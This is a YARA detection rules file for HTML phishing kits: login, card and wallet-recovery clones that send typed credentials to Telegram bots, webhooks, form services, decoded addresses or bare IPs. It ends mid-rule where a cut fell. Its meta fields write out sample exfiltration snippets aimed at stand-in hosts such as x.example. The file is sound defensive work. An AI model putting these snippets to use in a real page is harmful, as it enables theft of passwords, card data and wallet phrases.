/*
 * hostsweep — phishing pages with no PHP in them (docs/rules.md, "Phishing
 * kits, round 6"): an HTML sign-in or card clone whose form or script sends
 * what the victim types to another host, a messenger, a webhook or a form
 * service; the same page hidden in an encoded blob; a wallet "restore" page
 * asking for the recovery phrase. Not scoped to PHP: these files hold no PHP
 * tag. Written from the technique and tests/eval/phishgen2.py's invented
 * pages; held-out set 4's generator (now a training set) was read for the
 * families, never its output (tuned_on says so).
 *
 * Why these are phishing and not a site's own login: a real sign-in page
 * posts the password to its own host (a relative action, or its API with a
 * CSRF token), a payment page sends a card to a payment gateway, a contact
 * form sends name, e-mail and message to a form service. Nothing real sends
 * a password, card security code, SSN, one-time code or wallet phrase to a
 * Telegram bot, a chat webhook or a form service, moves the visitor to a
 * big brand's site after a script shipped the fields to another host, or
 * hides its login form from the page's source in an encoding.
 */

/* A field for what a kit steals: a password field; a field named for a
 * password, a card number or security code, an SSN, a one-time code or a
 * PIN; a wallet's recovery phrase. Search forms, newsletters and contact
 * forms have none. The attribute is matched without its tag (name= or id=
 * right before the value): a regex that starts at <input and scans the tag
 * cost six times as much on the clean corpus. */
private rule phishing_html__password_type
{
    strings:
        $p = /t[y]pe\s{0,2}=\s{0,2}["']?password/ nocase
    condition:
        $p
}

private rule phishing_html__cred_field
{
    strings:
        $n1 = /(name|id)=["']?[\w-]{0,12}(passw|pwd|psw|cvv|cvc|ccnum|cc_num|cardnum|card_num|cardnumber|ssn|mnemonic|otp|smscode|sms_code)/ nocase
        /* not name=cc: a mail form's carbon copy */
        $n2 = /(name|id)=["']?(pass|pw|pin|atmpin|mmn|phrase|seed)["'\s>]/
        $w = /(recovery|secret|seed|mnemonic|backup)[ -](phrase|words)/ nocase
    condition:
        phishing_html__password_type or any of them
}

/* A card, SSN, PIN or wallet field: what a webmail or SSO box never asks
 * (a one-time code is not here: a rendered single-sign-on page posts one to
 * its identity provider's absolute address). */
private rule phishing_html__beyond_password
{
    strings:
        $n1 = /(name|id)=["']?[\w-]{0,12}(cvv|cvc|ccnum|cc_num|cardnum|card_num|cardnumber|ssn|mnemonic)/ nocase
        $n2 = /name=["']?(pin|atmpin|mmn|phrase|seed)["'\s>]/
        $w = /(recovery|secret|seed|mnemonic)[ -](phrase|words)/ nocase
    condition:
        any of them
}

/* Not a page: documentation, translations, data, and script or test
 * sources (a Markdown page that shows a kit's code, a login component's
 * unit test). A served page is .html, .htm, .shtml, .php or the like; a
 * script file that writes an *encoded* page is still read by the encoded
 * rules below. */
private rule phishing_html__not_a_page
{
    condition:
        extension == "md" or extension == "markdown" or extension == "rst" or extension == "adoc" or
        extension == "asciidoc" or extension == "txt" or extension == "text" or extension == "po" or
        extension == "pot" or extension == "json" or extension == "yml" or extension == "yaml" or
        extension == "csv" or extension == "sql" or extension == "log" or
        extension == "js" or extension == "mjs" or extension == "cjs" or extension == "ts" or
        extension == "jsx" or extension == "tsx" or extension == "vue" or extension == "svelte" or
        extension == "map" or extension == "snap"
}

/* A real application's own page: a CSRF token or nonce, template markup. */
private rule phishing_html__real_app
{
    strings:
        $t1 = "csrf" ascii nocase
        $t2 = "_token" ascii
        $t3 = "nonce" ascii nocase
        $t4 = "{{" ascii
        $t5 = "<roundcube:" ascii
        $t6 = "wp_login" ascii
    condition:
        any of them
}

/* Where a kit's page sends: a Telegram bot, a chat webhook, a request bin,
 * a form service (made for contact forms, so a password there is stolen). */
private rule phishing_html__collector
{
    strings:
        $m1 = "api.telegram.org/bot" ascii nocase
        $m2 = /discord(app)?\.com\/api\/webhooks\//
        $m3 = "hooks.slack.com/services/" ascii
        $m4 = "webhook.site/" ascii
        $f1 = /formspree\.io\/(f\/)?\w/
        $f2 = /formsubmit\.co\/(ajax\/)?[\w.%+-]{1,64}(@|%40)/
        $f3 = /getform\.io\/f\/\w/
        $f4 = "api.web3forms.com" ascii
        $f5 = /formcarry\.com\/s\/\w/
        $f6 = /usebasin\.com\/f\/\w/
        $f7 = /submit-form\.com\/\w/
        /* a mail relay called from the page itself (round 9: a wallet
         * import page mailing the phrase) */
        $f8 = /emailjs\.send(Form)?\s{0,2}\(/
        $f9 = "api.emailjs.com" ascii
    condition:
        any of them
}

/* The page sends by script: fetch, XHR, jQuery, a beacon, an image URL. */
private rule phishing_html__script_send
{
    strings:
        $s1 = /\bfetch\s{0,2}\(/
        $s2 = "XMLHttpRequest" ascii
        $s3 = /\$\.(post|ajax|get)\s{0,2}\(/
        $s4 = "sendBeacon(" ascii
        $s5 = /axios\.post\s{0,2}\(/
        $s6 = /new\s{1,3}Image\b/
        /* train8: a socket the page opens (a live kit's operator channel) */
        $s7 = /new\s{1,3}WebSocket\s{0,2}\(/
    condition:
        any of them
}

/* The script reads the fields: by id, name or selector, the whole form. */
private rule phishing_html__field_read
{
    strings:
        $v1 = /\)\s{0,2}\.value\b/
        $v2 = /\)\s{0,2}\.val\(\)/
        $v3 = /\.elements\s{0,2}[.\[,]/
        $v4 = /new\s{1,4}FormData\s{0,2}\(/
        $v5 = ".serialize()" ascii
        $v6 = /\.elements\s{0,2}\)/
        /* train8: a field by index or by name on the form or `this`
         * (f[k[1]].value, this.pass.value, forms[0].pin.value), or each
         * field of a list (inputs.map(i => i.value)) */
        $v7 = /\]\s{0,2}\.value\b/
        $v8 = /\b(this|form|frm|forms\s{0,2}\[\s{0,2}\d\s{0,2}\])\.\w{1,30}\.value\b/
        $v9 = /=>\s{0,2}\w{1,12}\.value\b/
    condition:
        any of them
}

/* What the script sends to: an absolute address (http, https or
 * protocol-relative) in a send call, or an image beacon's src. */
private rule phishing_html__absolute_send
{
    strings:
        $a1 = /\bfetch\s{0,2}\(\s{0,2}["'](https?:)?\/\/[\w-]/
        $a2 = /\.open\s{0,2}\(\s{0,2}["'](POST|GET)["']\s{0,2},\s{0,2}["'](https?:)?\/\/[\w-]/ nocase
        $a3 = /\$\.(post|get)\s{0,2}\(\s{0,2}["'](https?:)?\/\/[\w-]/
        $a4 = /\burl\s{0,2}:\s{0,2}["'](https?:)?\/\/[\w-]/
        $a5 = /sendBeacon\s{0,2}\(\s{0,2}["'](https?:)?\/\/[\w-]/
        $a6 = /\.src\s{0,2}=\s{0,2}["'](https?:)?\/\/[\w.-]{1,80}\/[^"'\n]{0,80}\?[^"'\n]{0,40}["']\s{0,2}\+/
        /* train8: an address the page decodes from base64 before it
         * sends (atob of "http...") */
        $a8 = /\batob\s{0,2}\(\s{0,2}["']aHR0c/
    condition:
        any of them
}

/* train8: where the script sends is hidden or is a standing channel: an
 * address decoded from base64 (nothing real hides where its own form
 * goes), or a socket to a fixed host (a site's own chat builds its address
 * from location.host; a vendor's chat sends one message box) that is
 * given the whole form. */
private rule phishing_html__hidden_or_socket_send
{
    strings:
        $d = /\batob\s{0,2}\(\s{0,2}["']aHR0c/
        $w = /new\s{1,3}WebSocket\s{0,2}\(\s{0,2}["']wss?:\/\/[\w-]/
        $fd = /new\s{1,4}FormData\s{0,2}\(/
    condition:
        $d or ($w and $fd)
}

/* After sending, the visitor is moved to another site (a kit sends the
 * victim to the real brand; a site's own login goes to its dashboard). */
private rule phishing_html__away_redirect
{
    strings:
        $l = /(location(\.href)?\s{0,2}=\s{0,2}|location\.(replace|assign)\s{0,2}\(\s{0,2})["']https?:\/\//
    condition:
        $l
}

rule phishing_html_credentials_to_collector : phishing
{
    meta:
        description = "Page with a password, card, SSN, one-time-code or wallet-phrase field whose form or script sends it to a Telegram bot, a chat webhook, a request bin or a form service"
        severity = "high"
        technique = "<input name=cvv> + fetch('https://api.telegram.org/bot<token>/sendMessage?text='+q) / <form action=https://formsubmit.co/drop@mail> / $.ajax({url:'https://formspree.io/f/x'})"
        seen = "none"
        tuned_on = "phishgen2, heldout4"
    strings:
        $fa = /<form\b[^>]{0,300}\baction\s{0,2}=\s{0,2}["']?https?:\/\/(formspree\.io|formsubmit\.co|getform\.io|api\.web3forms\.com|formcarry\.com|usebasin\.com|submit-form\.com|webhook\.site|[\w.-]{0,40}discord(app)?\.com\/api\/webhooks)\// nocase
    condition:
        filesize < 1MB and phishing_html__cred_field and phishing_html__collector and
        ($fa or (phishing_html__script_send and phishing_html__field_read)) and not phishing_html__real_app and
        not phishing_html__not_a_page
}

rule phishing_html_fields_beaconed_away : phishing
{
    meta:
        description = "Page with a credential field whose script sends the fields to an absolute address on another host and then moves the visitor to another site, or puts them in an image beacon's URL"
        severity = "high"
        technique = "var q=..elements..; new XMLHttpRequest().open('POST','https://x.example/p.php'); x.send(q); location.href='https://www.brand.com/' / new Image().src='https://x/p.gif?'+q / fetch(atob('aHR0cHM6..'), {body: seed}) / new WebSocket('wss://x:2053').send(FormData)"
        seen = "none,train8"
        tuned_on = "phishgen2, heldout4"
    strings:
        /* an image whose URL carries the fields: nothing real puts what a
         * visitor typed into a password form into a pixel */
        $img = /\.src\s{0,2}=\s{0,2}["'](https?:)?\/\/[\w.-]{1,80}\/[^"'\n]{0,80}\?[^"'\n]{0,40}["']\s{0,2}\+\s{0,2}(btoa\s{0,2}\(\s{0,2})?(q|data|d|s|str|params|payload|body|info|f)\b/
    condition:
        filesize < 1MB and phishing_html__cred_field and phishing_html__field_read and phishing_html__script_send and
        (phishing_html__absolute_send or phishing_html__hidden_or_socket_send) and
        (phishing_html__away_redirect or $img or phishing_html__hidden_or_socket_send) and
        not phishing_html__real_app and
        not phishing_html__not_a_page
}

rule phishing_html_card_form_offsite : phishing
{
    meta:
        description = "Page whose form asks for a card security code, an SSN, a one-time code, a PIN or a wallet phrase and posts to an absolute address that is no payment gateway"
        severity = "high"
        technique = "<form action=\"https://x.example/gate/post.php\"> <input name=ccnum> <input name=cvv> (a hosting provider's webmail box asks for a password only; a hosted payment form posts to its gateway)"
        seen = "none"
        tuned_on = "phishgen2, heldout4"
    strings:
        $ext = /<form\b[^>]{0,300}\baction\s{0,2}=\s{0,2}["']?(https?:)?\/\/[\w-]/ nocase
        $gw = /<form\b[^>]{0,300}\baction\s{0,2}=\s{0,2}["']?(https?:)?\/\/([\w-]{1,40}\.){0,4}(authorize\.net|2checkout\.com|sagepay\.com|opayo\.co\.uk|worldpay\.com|paypal\.com|stripe\.com|braintreegateway\.com|adyen\.com|payeezy\.com|firstdata\.com|moneris\.com|paysafe\.com|checkout\.com|realexpayments\.com|globalpay\.com|nmi\.com|eway\.com\.au|payu\.[a-z.]{2,6}|ccavenue\.com|mollie\.com|ogone\.com|cybersource\.com|elavon\.com|square(up)?\.com|iyzipay\.com|iyzico\.com|paytr\.com|vnpay\.vn|mercadopago\.com(\.br)?|pagseguro\.uol\.com\.br|cielo\.com\.br|payzen\.eu|paybox\.com|razorpay\.com|paystack\.co|flutterwave\.com|midtrans\.com|xendit\.co)[\/"':?]/ nocase
    condition:
        filesize < 1MB and $ext and #ext > #gw and phishing_html__beyond_password and not phishing_html__real_app and
        not phishing_html__not_a_page
}

rule phishing_html_password_and_code_offsite : phishing
{
    meta:
        description = "Page whose form asks for a password and an SMS or one-time code together and posts them to an absolute address (medium: a VPN portal asks for a password and a token code too)"
        severity = "medium"
        technique = "<form action=\"https://x.example/next.php\"> <input name=userid> <input type=password name=pass> <input name=otp placeholder='SMS code'>"
        seen = "none"
        tuned_on = "phishgen2, heldout4"
    strings:
        $ext = /<form\b[^>]{0,300}\baction\s{0,2}=\s{0,2}["']?(https?:)?\/\/[\w-]/ nocase
        $code = /(name|id)=["']?[\w-]{0,12}(otp|smscode|sms_code|sms|token_?code|verification_?code|auth_?code)["'\s>]/ nocase
    condition:
        filesize < 1MB and $ext and $code and phishing_html__password_type and not phishing_html__real_app and not phishing_html__not_a_page
}

rule phishing_html_credentials_sent_offsite : phishing
{
    meta:
        description = "Page with a credential field whose script reads the fields and sends them to an absolute address (no CSRF token, no own-app markup)"
        severity = "medium"
        technique = "<input name=pass> + $.post('https://x.example/a.php', $('form').serialize()); a single-page app's own login has its CSRF token"
        seen = "none"
        tuned_on = "phishgen2, heldout4"
    condition:
        filesize < 1MB and phishing_html__cred_field and phishing_html__field_read and phishing_html__script_send and
        phishing_html__absolute_send and not phishing_html__real_app and
        not phishing_html__not_a_page
}

/* ------------------------------------------------------------------------
 * train8 (docs/rules.md, "The train8 round"): the sign-in page sent as a
 * mail attachment or dropped in an uploads folder, whatever brand it
 * claims. Its form posts the password straight to the collector: to an
 * address the page decodes at submit time (this.action = atob(..), the
 * form's action set from a decoded string), to a bare IP address, or to a
 * PHP script on another host. A real login form names where it posts in
 * its markup, posts to its own host or its identity provider, and is
 * served under a name, not a number.
 * ---------------------------------------------------------------------- */
rule phishing_html_form_action_decoded : phishing
{
    meta:
        description = "Page with a password or card field whose form's action is set by script from a decoded (base64, %XX, char-code) or reversed string"
        severity = "high"
        technique = "<form action=\"\" onsubmit=\"this.action=atob('aHR0cHM6Ly8..')\"> + password field / form.setAttribute('action', decodeURIComponent('%68%74..')) / f.action = 'php.p/x//:sptth'.split('').reverse().join('')"
        seen = "train8"
    strings:
        $d1 = /\.action\s{0,2}=\s{0,2}(window\.)?(atob|unescape|decodeURIComponent|decodeURI|String\.fromCharCode)\s{0,2}\(/
        $d2 = /setAttribute\s{0,2}\(\s{0,2}["']action["']\s{0,2},\s{0,2}(window\.)?(atob|unescape|decodeURIComponent|decodeURI|String\.fromCharCode)\s{0,2}\(/
        $d3 = /\.action\s{0,2}=\s{0,2}["'][^"'\n]{4,200}["']\s{0,2}\.split\s{0,2}\(\s{0,2}["']{2}\s{0,2}\)\s{0,2}\.reverse\s{0,2}\(/
    condition:
        filesize < 1MB and any of ($d*) and phishing_html__cred_field and not phishing_html__real_app and
        not phishing_html__not_a_page
}

rule phishing_html_password_form_to_ip : phishing
{
    meta:
        description = "Page whose password or card form posts to a bare IP address"
        severity = "high"
        technique = "<form method=post action=\"https://203.0.113.7/x/y.php\"> + <input type=password>; a router's or NAS's own page posts to a relative path"
        seen = "train8"
    strings:
        $ip = /<form\b[^>]{0,300}\baction\s{0,2}=\s{0,2}["']?(https?:)?\/\/\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}[:\/"']/ nocase
        /* private and loopback addresses: a LAN device's page */
        $lan = /<form\b[^>]{0,300}\baction\s{0,2}=\s{0,2}["']?(https?:)?\/\/(10\.|127\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.)/ nocase
    condition:
        filesize < 1MB and $ip and #ip > #lan and phishing_html__cred_field and not phishing_html__real_app and
        not phishing_html__not_a_page
}

rule phishing_html_password_form_offsite_script : phishing
{
    meta:
        description = "Page whose password form posts to a PHP script on another host, whatever brand it claims (medium: a site may carry a login box for a members' area on another host)"
        severity = "medium"
        technique = "<form method=post action=\"https://other.example/dir/next.php\"> + <input type=password>, no CSRF token or template markup"
        seen = "train8"
    strings:
        $o = /<form\b[^>]{0,300}\baction\s{0,2}=\s{0,2}["']https?:\/\/[^"'\/\s]{1,100}\/[^"'?#\s]{0,120}\.php["'?]/ nocase
        /* this machine or the LAN: a local demo, a device's page */
        $lan = /<form\b[^>]{0,300}\baction\s{0,2}=\s{0,2}["']https?:\/\/(localhost|127\.|10\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.)/ nocase
    condition:
        filesize < 1MB and $o and #o > #lan and phishing_html__password_type and not phishing_html__real_app and
        not phishing_html__not_a_page
}

rule phishing_html_wallet_phrase_page : phishing
{
    meta:
        description = "Page naming crypto wallets that asks for the recovery (seed) phrase and sends it (by script or form)"
        severity = "high"
        technique = "<select>MetaMask / Trust Wallet</select> <textarea placeholder='12 or 24 word recovery phrase'> + fetch('save.php', {body:'phrase='+p}); a wallet's help page warns never to enter it and sends nothing"
        seen = "none"
        tuned_on = "phishgen2, heldout4"
    strings:
        $w0 = "MetaMask" ascii nocase
        $w1 = "Trust Wallet" ascii nocase
        $w2 = "TrustWallet" ascii nocase
        $w3 = "Phantom" ascii nocase
        $w4 = "Ledger" ascii nocase
        $w5 = "Trezor" ascii nocase
        $w6 = "Exodus" ascii nocase
        $w7 = "Coinbase Wallet" ascii nocase
        $w8 = "WalletConnect" ascii nocase
        $w9 = "Atomic Wallet" ascii nocase
        $w10 = "Electrum" ascii nocase
        $p1 = /(recovery|secret|seed|mnemonic|backup)[ -](phrase|words)/ nocase
        $p2 = /\b(12|24)\b[^<\n]{0,30}\bwords?\b/ nocase
        /* "12 или 24 слова", "12 o 24 palabras", "24 mots", "12 kelime" (round 9) */
        $p3 = /\b(12|24)\b[^<\n]{0,30}(\xd1\x81\xd0\xbb\xd0\xbe\xd0\xb2|palabras|palavras|mots\b|kelime|w\xc3\xb6rter|woorden|parole|s\xc5\x82\xc3\xb3w)/ nocase
        /* the phrase is typed into a text area named or labelled for it (a
         * blog's comment box is a text area too), or a field named for it */
        $ta = /<(textarea|TEXTAREA)\b[^>]{0,200}([Pp]hrase|[Mm]nemonic|[Ss]eed|[Ww]ords|[Rr]ecovery)/
        /* a text area on a page naming the phrase in another language
         * (literals: more words in $ta's alternation cost 20 M) */
        $tx = "<textarea" ascii nocase
        $tw1 = "\xd1\x84\xd1\x80\xd0\xb0\xd0\xb7" ascii
        $tw2 = "semilla" ascii nocase
        $tw3 = "frase de recupera" ascii nocase
        $tw4 = "phrase secr\xc3\xa8te" ascii nocase
        $post = /<form\b[^>]{0,300}\bmethod\s{0,2}=\s{0,2}["']?post/ nocase
        $never0 = "never share" ascii
        $never1 = "Never share" ascii
        $never2 = "never enter" ascii
        $never3 = "Never enter" ascii
        $never4 = "never type" ascii
        $never5 = "Never type" ascii
        $never6 = "NEVER share" ascii
    condition:
        filesize < 1MB and any of ($w*) and ($p1 or $p2 or $p3) and ($ta or ($tx and any of ($tw*)) or phishing_html__cred_field) and
        ((phishing_html__script_send and phishing_html__field_read) or $post or phishing_html__collector) and not any of ($never*) and not phishing_html__real_app and
        not phishing_html__not_a_page
}

/* The same page under any wallet's name (train6: the wallet names of a kit
 * are invented, "MetaFox", "TrustVault", and a list of real wallets misses
 * them): a page that names the recovery phrase and asks for it word by
 * word, ten or more numbered fields (Word 1 .. Word 12, name="w12"), then
 * sends it by a form post or a script. No real site asks for the phrase in
 * a web form; a wallet's help page warns never to enter it and has no
 * numbered word fields. */
rule phishing_html_recovery_phrase_words : phishing
{
    meta:
        description = "Page asking for a wallet's recovery phrase word by word (ten or more numbered fields) and sending it, whatever the wallet's name"
        severity = "high"
        technique = "<h2>Import your Secret Recovery Phrase</h2><input name=w1 placeholder='Word 1'> .. w12 + form post or sendBeacon; any wallet name"
        seen = "train6"
    strings:
        $p1 = /(recovery|secret|seed|mnemonic|backup|wallet)[ -](phrase|words)/ nocase
        $p3 = /\b(12|24)\b[^<\n]{0,30}(\xd1\x81\xd0\xbb\xd0\xbe\xd0\xb2|palabras|palavras|mots\b|kelime|w\xc3\xb6rter|woorden|parole|s\xc5\x82\xc3\xb3w)/ nocase
        /* the tenth to twelfth numbered word field, by name, id or placeholder */
        $nf = /(name|id|placeholder|aria-label)=["']?(word|w|phrase|seed|mnemonic|palabra|mot|wort|slovo)[ _#-]{0,2}1[0-2]\b/ nocase
        $post = /<form\b[^>]{0,300}\bmethod\s{0,2}=\s{0,2}["']?post/ nocase
        $never0 = "never share" ascii nocase
        $never1 = "never enter" ascii nocase
        $never2 = "never type" ascii nocase
    condition:
        filesize < 1MB and ($p1 or $p3) and $nf and
        ($post or phishing_html__script_send or phishing_html__collector) and
        not any of ($never*) and not phishing_html__real_app and not phishing_html__not_a_page
}

/* ------------------------------------------------------------------------
 * The page hidden in an encoding. A kit writes its whole page (or its form)
 * with document.write / innerHTML of a decoded blob, or shows it in a
 * base64 data: iframe, so that the file's text names no form, no password
 * and no address. YARA reads the encodings directly: the base64 of the
 * telling markup (the `base64` modifier tries the three alignments), its
 * %XX and \xXX escapes, its character codes, its HTML entities and its
 * reversed text. Loaders of a script tag (the old analytics snippet's
 * unescape('%3Cscript ..')) and e-mail address obfuscators (fromCharCode or
 * entities of a mailto link) encode no form and no password field.
 * ---------------------------------------------------------------------- */

/* A password or credential field, encoded (the strings are written by
 * the generator quoted in docs/rules.md: base64, %XX, character codes,
 * entities, \xXX and reversed text of each marker). */
private rule phishing_html__enc_cred
{
    strings:
        // type="password"
        $b0 = "type=\"password\"" base64
        $p0 = "%74%79%70%65%3D%22%70%61%73%73%77%6F%72%64%22" ascii nocase
        $c0 = /116,\s{0,2}121,\s{0,2}112,\s{0,2}101,\s{0,2}61,\s{0,2}34,\s{0,2}112,\s{0,2}97,\s{0,2}115,\s{0,2}115,\s{0,2}119,\s{0,2}111,\s{0,2}114,\s{0,2}100,\s{0,2}34\b/
        $e0 = /&#(116|x74);&#(121|x79);&#(112|x70);&#(101|x65);&#(61|x3d);&#(34|x22);&#(112|x70);&#(97|x61);&#(115|x73);&#(115|x73);&#(119|x77);&#(111|x6f);&#(114|x72);&#(100|x64);&#(34|x22);/ nocase
        $x0 = "\\x74\\x79\\x70\\x65\\x3d\\x22\\x70\\x61\\x73\\x73\\x77\\x6f\\x72\\x64\\x22" ascii nocase
        $r0 = "\"drowssap\"=epyt" ascii
        // type='password'
        $b1 = "type='password'" base64
        $p1 = "%74%79%70%65%3D%27%70%61%73%73%77%6F%72%64%27" ascii nocase
        $c1 = /116,\s{0,2}121,\s{0,2}112,\s{0,2}101,\s{0,2}61,\s{0,2}39,\s{0,2}112,\s{0,2}97,\s{0,2}115,\s{0,2}115,\s{0,2}119,\s{0,2}111,\s{0,2}114,\s{0,2}100,\s{0,2}39\b/
        $e1 = /&#(116|x74);&#(121|x79);&#(112|x70);&#(101|x65);&#(61|x3d);&#(39|x27);&#(112|x70);&#(97|x61);&#(115|x73);&#(115|x73);&#(119|x77);&#(111|x6f);&#(114|x72);&#(100|x64);&#(39|x27);/ nocase
        $x1 = "\\x74\\x79\\x70\\x65\\x3d\\x27\\x70\\x61\\x73\\x73\\x77\\x6f\\x72\\x64\\x27" ascii nocase
        $r1 = "'drowssap'=epyt" ascii
        // name="pass
        $b2 = "name=\"pass" base64
        $p2 = "%6E%61%6D%65%3D%22%70%61%73%73" ascii nocase
        $c2 = /110,\s{0,2}97,\s{0,2}109,\s{0,2}101,\s{0,2}61,\s{0,2}34,\s{0,2}112,\s{0,2}97,\s{0,2}115,\s{0,2}115\b/
        $e2 = /&#(110|x6e);&#(97|x61);&#(109|x6d);&#(101|x65);&#(61|x3d);&#(34|x22);&#(112|x70);&#(97|x61);&#(115|x73);&#(115|x73);/ nocase
        $x2 = "\\x6e\\x61\\x6d\\x65\\x3d\\x22\\x70\\x61\\x73\\x73" ascii nocase
        $r2 = "ssap\"=eman" ascii
        // name="pw"
        $b3 = "name=\"pw\"" base64
        $p3 = "%6E%61%6D%65%3D%22%70%77%22" ascii nocase
        $c3 = /110,\s{0,2}97,\s{0,2}109,\s{0,2}101,\s{0,2}61,\s{0,2}34,\s{0,2}112,\s{0,2}119,\s{0,2}34\b/
        $e3 = /&#(110|x6e);&#(97|x61);&#(109|x6d);&#(101|x65);&#(61|x3d);&#(34|x22);&#(112|x70);&#(119|x77);&#(34|x22);/ nocase
        $x3 = "\\x6e\\x61\\x6d\\x65\\x3d\\x22\\x70\\x77\\x22" ascii nocase
        $r3 = "\"wp\"=eman" ascii
        // name="cvv
        $b4 = "name=\"cvv" base64
        $p4 = "%6E%61%6D%65%3D%22%63%76%76" ascii nocase
        $c4 = /110,\s{0,2}97,\s{0,2}109,\s{0,2}101,\s{0,2}61,\s{0,2}34,\s{0,2}99,\s{0,2}118,\s{0,2}118\b/
        $e4 = /&#(110|x6e);&#(97|x61);&#(109|x6d);&#(101|x65);&#(61|x3d);&#(34|x22);&#(99|x63);&#(118|x76);&#(118|x76);/ nocase
        $x4 = "\\x6e\\x61\\x6d\\x65\\x3d\\x22\\x63\\x76\\x76" ascii nocase
        $r4 = "vvc\"=eman" ascii
        // name="ssn
        $b5 = "name=\"ssn" base64
        $p5 = "%6E%61%6D%65%3D%22%73%73%6E" ascii nocase
        $c5 = /110,\s{0,2}97,\s{0,2}109,\s{0,2}101,\s{0,2}61,\s{0,2}34,\s{0,2}115,\s{0,2}115,\s{0,2}110\b/
        $e5 = /&#(110|x6e);&#(97|x61);&#(109|x6d);&#(101|x65);&#(61|x3d);&#(34|x22);&#(115|x73);&#(115|x73);&#(110|x6e);/ nocase
        $x5 = "\\x6e\\x61\\x6d\\x65\\x3d\\x22\\x73\\x73\\x6e" ascii nocase
        $r5 = "nss\"=eman" ascii
        // name="cc
        $b6 = "name=\"cc" base64
        $p6 = "%6E%61%6D%65%3D%22%63%63" ascii nocase
        $c6 = /110,\s{0,2}97,\s{0,2}109,\s{0,2}101,\s{0,2}61,\s{0,2}34,\s{0,2}99,\s{0,2}99\b/
        $e6 = /&#(110|x6e);&#(97|x61);&#(109|x6d);&#(101|x65);&#(61|x3d);&#(34|x22);&#(99|x63);&#(99|x63);/ nocase
        $x6 = "\\x6e\\x61\\x6d\\x65\\x3d\\x22\\x63\\x63" ascii nocase
        $r6 = "cc\"=eman" ascii
        // placeholder="Password
        $b7 = "placeholder=\"Password" base64
        $p7 = "%70%6C%61%63%65%68%6F%6C%64%65%72%3D%22%50%61%73%73%77%6F%72%64" ascii nocase
        $c7 = /112,\s{0,2}108,\s{0,2}97,\s{0,2}99,\s{0,2}101,\s{0,2}104,\s{0,2}111,\s{0,2}108,\s{0,2}100,\s{0,2}101,\s{0,2}114,\s{0,2}61,\s{0,2}34,\s{0,2}80,\s{0,2}97,\s{0,2}115,\s{0,2}115,\s{0,2}119,\s{0,2}111,\s{0,2}114,\s{0,2}100\b/
        $e7 = /&#(112|x70);&#(108|x6c);&#(97|x61);&#(99|x63);&#(101|x65);&#(104|x68);&#(111|x6f);&#(108|x6c);&#(100|x64);&#(101|x65);&#(114|x72);&#(61|x3d);&#(34|x22);&#(80|x50);&#(97|x61);&#(115|x73);&#(115|x73);&#(119|x77);&#(111|x6f);&#(114|x72);&#(100|x64);/ nocase
        $x7 = "\\x70\\x6c\\x61\\x63\\x65\\x68\\x6f\\x6c\\x64\\x65\\x72\\x3d\\x22\\x50\\x61\\x73\\x73\\x77\\x6f\\x72\\x64" ascii nocase
        $r7 = "drowssaP\"=redlohecalp" ascii
        // recovery phrase
        $b8 = "recovery phrase" base64
        $p8 = "%72%65%63%6F%76%65%72%79%20%70%68%72%61%73%65" ascii nocase
        $c8 = /114,\s{0,2}101,\s{0,2}99,\s{0,2}111,\s{0,2}118,\s{0,2}101,\s{0,2}114,\s{0,2}121,\s{0,2}32,\s{0,2}112,\s{0,2}104,\s{0,2}114,\s{0,2}97,\s{0,2}115,\s{0,2}101\b/
        $e8 = /&#(114|x72);&#(101|x65);&#(99|x63);&#(111|x6f);&#(118|x76);&#(101|x65);&#(114|x72);&#(121|x79);&#(32|x20);&#(112|x70);&#(104|x68);&#(114|x72);&#(97|x61);&#(115|x73);&#(101|x65);/ nocase
        $x8 = "\\x72\\x65\\x63\\x6f\\x76\\x65\\x72\\x79\\x20\\x70\\x68\\x72\\x61\\x73\\x65" ascii nocase
        $r8 = "esarhp yrevocer" ascii
        // percent-escaped with the letters kept (encodeURIComponent, quote)
        $q1 = /type%3D(%22|%27)?password/ nocase
        $q2 = /name%3D(%22|%27)?(pass|pw%22|cvv|ssn)/ nocase
    condition:
        any of them
}

/* A form, encoded. */
private rule phishing_html__enc_form
{
    strings:
        // <form
        $b0 = "<form" base64
        $p0 = "%3C%66%6F%72%6D" ascii nocase
        $c0 = /60,\s{0,2}102,\s{0,2}111,\s{0,2}114,\s{0,2}109\b/
        $e0 = /&#(60|x3c);&#(102|x66);&#(111|x6f);&#(114|x72);&#(109|x6d);/ nocase
        $x0 = "\\x3c\\x66\\x6f\\x72\\x6d" ascii nocase
        $r0 = "mrof<" ascii
        $q1 = /%3Cform/ nocase
        $q2 = "\\u003cform" ascii nocase
        $q3 = "<FORM" base64
    condition:
        any of them
}

/* Where the encoded page sends: an absolute form action, a send call or an
 * image beacon to an absolute address, XMLHttpRequest, a beacon, Telegram. */
private rule phishing_html__enc_offsite
{
    strings:
        // action="http
        $b0 = "action=\"http" base64
        $p0 = "%61%63%74%69%6F%6E%3D%22%68%74%74%70" ascii nocase
        $c0 = /97,\s{0,2}99,\s{0,2}116,\s{0,2}105,\s{0,2}111,\s{0,2}110,\s{0,2}61,\s{0,2}34,\s{0,2}104,\s{0,2}116,\s{0,2}116,\s{0,2}112\b/
        $e0 = /&#(97|x61);&#(99|x63);&#(116|x74);&#(105|x69);&#(111|x6f);&#(110|x6e);&#(61|x3d);&#(34|x22);&#(104|x68);&#(116|x74);&#(116|x74);&#(112|x70);/ nocase
        $x0 = "\\x61\\x63\\x74\\x69\\x6f\\x6e\\x3d\\x22\\x68\\x74\\x74\\x70" ascii nocase
        $r0 = "ptth\"=noitca" ascii
        // action="//
        $b1 = "action=\"//" base64
        $p1 = "%61%63%74%69%6F%6E%3D%22%2F%2F" ascii nocase
        $c1 = /97,\s{0,2}99,\s{0,2}116,\s{0,2}105,\s{0,2}111,\s{0,2}110,\s{0,2}61,\s{0,2}34,\s{0,2}47,\s{0,2}47\b/
        $e1 = /&#(97|x61);&#(99|x63);&#(116|x74);&#(105|x69);&#(111|x6f);&#(110|x6e);&#(61|x3d);&#(34|x22);&#(47|x2f);&#(47|x2f);/ nocase
        $x1 = "\\x61\\x63\\x74\\x69\\x6f\\x6e\\x3d\\x22\\x2f\\x2f" ascii nocase
        $r1 = "//\"=noitca" ascii
        // ('http
        $b2 = "('http" base64
        $p2 = "%28%27%68%74%74%70" ascii nocase
        $c2 = /40,\s{0,2}39,\s{0,2}104,\s{0,2}116,\s{0,2}116,\s{0,2}112\b/
        $e2 = /&#(40|x28);&#(39|x27);&#(104|x68);&#(116|x74);&#(116|x74);&#(112|x70);/ nocase
